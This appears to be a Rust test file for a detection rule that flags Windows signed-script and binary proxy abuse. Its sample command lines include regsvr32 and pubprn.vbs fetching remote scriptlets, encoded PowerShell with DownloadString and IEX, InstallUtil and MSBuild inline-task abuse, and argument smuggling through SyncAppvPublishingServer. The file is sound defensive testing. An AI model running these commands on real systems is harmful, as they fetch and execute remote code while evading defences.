//! Chains that are reported.

use super::*;

#[test]
fn what_only_an_abuser_tells_a_script_is_enough_by_itself() {
    let scripts = "C:\\Windows\\System32";
    for line in [
        format!(
            "cscript /b {scripts}\\Printing_Admin_Scripts\\en-US\\pubprn.vbs localhost script:https://example.org/a.sct"
        ),
        format!(
            "cscript //nologo \"{scripts}\\winrm.vbs\" invoke Create wmicimv2/Win32_Process @{{CommandLine=\"calc\"}} -r:http://target:5985"
        ),
        format!("wscript.exe {scripts}\\SyncAppvPublishingServer.vbs \"n; Start-Process calc\""),
    ] {
        assert_eq!(
            severity([launch(CSCRIPT, &line)]),
            Some(Severity::Medium),
            "{line}"
        );
    }
    let line = "regsvr32 /s /n /u /i:https://203.0.113.9/a.sct scrobj.dll";
    assert_eq!(severity([launch(REGSVR32, line)]), Some(Severity::Medium));
    let line = "powershell -c \". C:\\Windows\\diagnostics\\system\\AERO\\CL_LoadAssembly.ps1; LoadAssemblyFromPath ..\\..\\a.dll\"";
    assert_eq!(severity([launch(POWERSHELL, line)]), Some(Severity::Medium));
}

#[test]
fn abuse_with_a_consequence_is_worse() {
    let line = "regsvr32 /s /n /u /i:https://203.0.113.9/a.sct scrobj.dll";
    let events = [
        launch(REGSVR32, line),
        child("C:\\Windows\\System32\\calc.exe", "calc"),
    ];
    assert_eq!(severity(events), Some(Severity::High));
}

#[test]
fn manage_bde_is_abused_by_another_program() {
    let line = "cscript C:\\Windows\\System32\\manage-bde.wsf";
    assert_eq!(severity([launch(CSCRIPT, line)]), None);
    let events = [
        launch(CSCRIPT, line),
        child("C:\\Windows\\System32\\calc.exe", "calc.exe"),
    ];
    assert_eq!(severity(events), Some(Severity::Medium));
}

#[test]
fn a_script_block_that_calls_a_signed_script_is_abuse() {
    let block = |path: &str| {
        testing::event(class::SCRIPT_EXECUTE)
            .by(7)
            .set(
                field::SCRIPT_CONTENT,
                ". .\\CL_Invocation.ps1; SyncInvoke calc",
            )
            .set(field::SCRIPT_PATH, path)
    };
    assert_eq!(severity([block("")]), Some(Severity::Medium));
    assert_eq!(
        severity([block("C:\\Windows\\Temp\\SDIAG_1\\TS_Main.ps1")]),
        None
    );
}

#[test]
fn a_users_script_that_starts_an_encoded_command_is_reported() {
    let found = run([
        launch(
            WSCRIPT,
            "wscript.exe \"C:\\Users\\a\\Desktop\\launcher.vbs\"",
        ),
        child(
            POWERSHELL,
            &format!("powershell -noP -sta -w 1 -enc {ENCODED}"),
        ),
    ]);
    let [finding] = found.as_slice() else {
        panic!("{found:#?}")
    };
    assert_eq!(
        finding.title,
        "wscript.exe, started by explorer.exe, ran a script from where users can write: \
         C:\\Users\\a\\Desktop\\launcher.vbs, and started powershell.exe with an encoded command"
    );
    let decoded = finding
        .details
        .iter()
        .find(|detail| detail.name == "decoded payload");
    assert!(decoded.is_some_and(|detail| detail.value.contains("DownloadString")));
}

#[test]
fn command_shells_in_between_do_not_break_the_chain() {
    let found = run([
        launch(WSCRIPT, "wscript.exe C:\\Users\\a\\x.js"),
        child(CMD, "cmd.exe /c %APPDATA%\\run.bat"),
        testing::launch(9)
            .child_of(8)
            .image(POWERSHELL)
            .command_line(&format!("powershell -e {ENCODED}")),
    ]);
    assert_eq!(found.first().and_then(|finding| finding.process), Some(7));
}

#[test]
fn the_step_to_an_unsigned_program_is_reported() {
    let program = "C:\\Users\\a\\AppData\\Local\\Temp\\u.exe";
    let events = [
        launch(CSCRIPT, "cscript //e:jscript C:\\Users\\a\\Desktop\\x.js"),
        child(program, program),
        loaded(8, program, 0),
    ];
    assert_eq!(severity(events), Some(Severity::Medium));
}

#[test]
fn a_file_that_runs_after_it_was_written_is_found_without_lineage() {
    let program = "C:\\ProgramData\\u.exe";
    let events = [
        launch(WSCRIPT, "wscript C:\\Users\\a\\Downloads\\invoice.vbs"),
        wrote(program),
        testing::launch(20).child_of(19).image(program),
    ];
    let found = run(events);
    assert_eq!(found.first().map(|finding| finding.process), Some(Some(7)));
}

#[test]
fn a_silenced_uninstall_in_a_users_directory_is_reported() {
    let line = "InstallUtil.exe /logfile= /LogToConsole=false /u c:\\ProgramData\\a.dll";
    assert_eq!(
        severity([launch(INSTALLUTIL, line)]),
        Some(Severity::Medium)
    );
    let events = [launch(INSTALLUTIL, line), connection("203.0.113.9", 443)];
    assert_eq!(severity(events), Some(Severity::High));
}

#[test]
fn code_within_a_script_host_is_found_by_its_connection() {
    let line = "wscript C:\\Users\\a\\Desktop\\update.vbs";
    let events = [launch(WSCRIPT, line), connection("10.0.0.9", 4443)];
    assert_eq!(severity(events), Some(Severity::Medium));
    let events = [launch(WSCRIPT, line), connection("10.0.0.9", 445)];
    assert_eq!(severity(events), None);
}

#[test]
fn a_payload_in_the_arguments_of_a_disguised_script_is_reported() {
    let line = "wscript.exe /E:vbs c:\\windows\\temp\\icon.ico \"powershell -exec bypass -c \"\"IEX ([System.Convert]::FromBase64String('AA=='))\"\"\"";
    assert_eq!(severity([launch(WSCRIPT, line)]), Some(Severity::High));
}

#[test]
fn a_document_behind_a_script_counts() {
    let word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    let world = World::new().process(testing::process(3).image(word));
    let events = [
        launch(WSCRIPT, "wscript C:\\Users\\a\\AppData\\Roaming\\a.vbs"),
        child(CMD, "cmd.exe /c whoami"),
    ];
    let found = testing::run::<SignedScriptProxy>(world, json!({}), json!({}), events);
    assert_eq!(found.len(), 1);
}

#[test]
fn an_inline_task_in_a_disguised_project_is_reported() {
    let msbuild = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe";
    let csc = "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe";
    let line = "csc.exe /noconfig /fullpaths @\"C:\\Users\\a\\AppData\\Local\\Temp\\q\\q.cmdline\"";
    let events = [
        launch(msbuild, "MSBuild.exe C:\\ProgramData\\s.xml"),
        child(csc, line),
    ];
    assert_eq!(severity(events), Some(Severity::Medium));
}
